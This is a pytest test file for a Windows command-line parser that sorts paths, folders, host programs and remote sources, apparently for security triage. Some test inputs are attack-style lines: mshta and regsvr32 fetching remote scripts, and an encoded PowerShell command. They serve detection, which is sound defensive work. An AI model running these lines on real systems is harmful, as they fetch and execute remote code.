"""Command lines taken apart: programs, arguments, folders, hosts and what they run, other machines."""

from time import perf_counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from analysis.rules.commands import FOLDERS, HOSTS, Command, folder_of, take_apart, take_apart_list


@pytest.mark.parametrize(
    ("line", "path", "arguments", "folder", "writable"),
    [
        (r'"C:\Users\alice\x y.exe" /q', r"C:\Users\alice\x y.exe", "/q", "user", True),
        (r"C:\Program Files\A B\c.exe -k foo", r"C:\Program Files\A B\c.exe", "-k foo", "programs", False),
        (r"C:\Users\John Doe\app.exe", r"C:\Users\John Doe\app.exe", "", "user", True),
        (r"%SystemRoot%\System32\svchost.exe -k netsvcs", r"%SystemRoot%\System32\svchost.exe", "-k netsvcs", "system", False),
        (r"System32\drivers\x.sys", r"System32\drivers\x.sys", "", "system", False),
        (r"\SystemRoot\System32\drivers\x.sys", r"\SystemRoot\System32\drivers\x.sys", "", "system", False),
        (r"\??\C:\ProgramData\x.sys", r"\??\C:\ProgramData\x.sys", "", "shared", True),
        (r"\Device\HarddiskVolume3\Windows\notepad.exe", r"\Device\HarddiskVolume3\Windows\notepad.exe", "", "system", False),
        (r"C:\Windows\Temp\a.exe", r"C:\Windows\Temp\a.exe", "", "temp", True),
        (r"C:\Windows\System32\..\..\Users\Public\a.exe", r"C:\Windows\System32\..\..\Users\Public\a.exe", "", "shared", True),
        (r"C:\PROGRA~2\Tool\a.exe", r"C:\PROGRA~2\Tool\a.exe", "", "programs", False),
        (r"D:\tools\a.exe", r"D:\tools\a.exe", "", "other", None),
        ("notepad.exe", "notepad.exe", "", None, None),
        ("autocheck autochk *", "autocheck", "autochk *", None, None),
        (r"%APPDATA%\Contoso\logon.cmd", r"%APPDATA%\Contoso\logon.cmd", "", "user", True),
        (r"%UNHEARD%\a.exe", r"%UNHEARD%\a.exe", "", None, None),
    ],
)  # fmt: skip
def test_a_program_its_arguments_and_its_folder(
    line: str, path: str, arguments: str, folder: str | None, writable: bool | None
):
    found = take_apart(line)
    assert (found.path, found.arguments, found.folder, found.is_writable) == (
        path,
        arguments,
        folder,
        writable,
    )
    assert found.runs_from_writable is writable
    assert found.host in (None, "service")


@pytest.mark.parametrize(
    ("line", "host", "payload", "place"),
    [
        (r"rundll32.exe C:\Temp\a.dll,Start", "library", r"C:\Temp\a.dll", "temp"),
        (r'"C:\Windows\System32\rundll32.exe" "C:\Users\a\b c.dll",#1', "library", r"C:\Users\a\b c.dll", "user"),
        ("rundll32 shell32.dll,Control_RunDLL", "library", "shell32.dll", None),
        (r"cmd /c start C:\Users\Public\x.bat", "command", r"C:\Users\Public\x.bat", "shared"),
        (r'cmd.exe /c "C:\temp\x y.bat"', "command", r"C:\temp\x y.bat", "temp"),
        (r'wscript.exe "C:\Users\a\b c.vbs" //B', "script", r"C:\Users\a\b c.vbs", "user"),
        (r'powershell -c "IEX (gc C:\Users\a\x.ps1)"', "script", r"C:\Users\a\x.ps1", "user"),
        (r"powershell -File %TEMP%\x.ps1", "script", r"%TEMP%\x.ps1", "temp"),
        ("mshta http://198.51.100.7/x.hta", "script", "http://198.51.100.7/x.hta", "remote"),
        ("regsvr32 /s /n /u /i:https://example.com/y.sct scrobj.dll", "library", "https://example.com/y.sct", "remote"),
        ("explorer.exe", "command", None, "system"),
        ('mshta.exe javascript:close()', "script", None, "system"),
    ],
)  # fmt: skip
def test_a_host_and_what_it_runs(line: str, host: str, payload: str | None, place: str | None):
    found = take_apart(line)
    assert (found.host, found.payload, found.place) == (host, payload, place)


@pytest.mark.parametrize(
    ("line", "remote"),
    [
        (r"\\10.0.0.1\share\a.exe", "unc"),
        (r"\\host@SSL\DavWWWRoot\a.exe", "webdav"),
        (r"\\host@8080\x\a.exe", "webdav"),
        (r"\\?\UNC\host\share\a.exe", "unc"),
        (r"\\?\C:\Users\a\x.exe", None),
        (r"\\.\pipe\x", None),
        ("cmd /c start https://example.com/", "url"),
        (r"C:\a\\b\c.exe", None),
    ],
)
def test_another_machine(line: str, remote: str | None):
    assert take_apart(line).remote == remote
    if remote in ("unc", "webdav"):
        assert take_apart(line).folder == "remote"


def test_an_encoded_command_is_told_from_another_option():
    assert take_apart("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0A").is_encoded
    assert not take_apart("powershell -ExecutionPolicy Bypass -File a.ps1").is_encoded
    assert not take_apart("tool.exe -enc SQBFAFgAIAAoAE4AZQB3AC0A").is_encoded


def test_what_is_not_known_stays_unknown():
    for text in (None, "", "  ", "\0", '"', '""'):
        assert take_apart(text) == Command(None, None)
    assert folder_of("a.exe") is None
    assert take_apart_list(None) == []


def test_a_list_is_taken_apart_one_by_one():
    found = take_apart_list("C:\\Windows\\system32\\userinit.exe,C:\\Users\\a\\b.exe,")
    assert [(one.path, one.folder) for one in found] == [
        ("C:\\Windows\\system32\\userinit.exe", "system"),
        ("C:\\Users\\a\\b.exe", "user"),
    ]
    assert [one.path for one in take_apart_list("scecli\0ctsync\0", is_library=True)] == ["scecli", "ctsync"]


def test_a_library_has_no_arguments():
    found = take_apart(r"C:\Program Files\a b\c.dll", is_library=True)
    assert (found.path, found.arguments, found.host) == (r"C:\Program Files\a b\c.dll", "", None)


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=200) | st.text(alphabet='\\/:."% ,;ac1@-\0', max_size=400))
def test_any_text_is_taken_apart(text: str):
    found = take_apart(text)
    assert found.folder in (*FOLDERS, None)
    assert found.host in (*HOSTS.values(), None)
    assert (found.path is None) == (found.arguments is None)
    assert len(take_apart_list(text)) <= len(text)


@pytest.mark.parametrize("word", ["a", "%", "\\", '"', "a.dll ", "cmd /c ", "\\\\a", "%a%", ".exe", "-e "])
def test_long_hostile_lines_take_no_time(word: str):
    start = perf_counter()
    take_apart("cmd /c " + word * 40_000)
    take_apart_list(word * 40_000)
    assert perf_counter() - start < 3.0
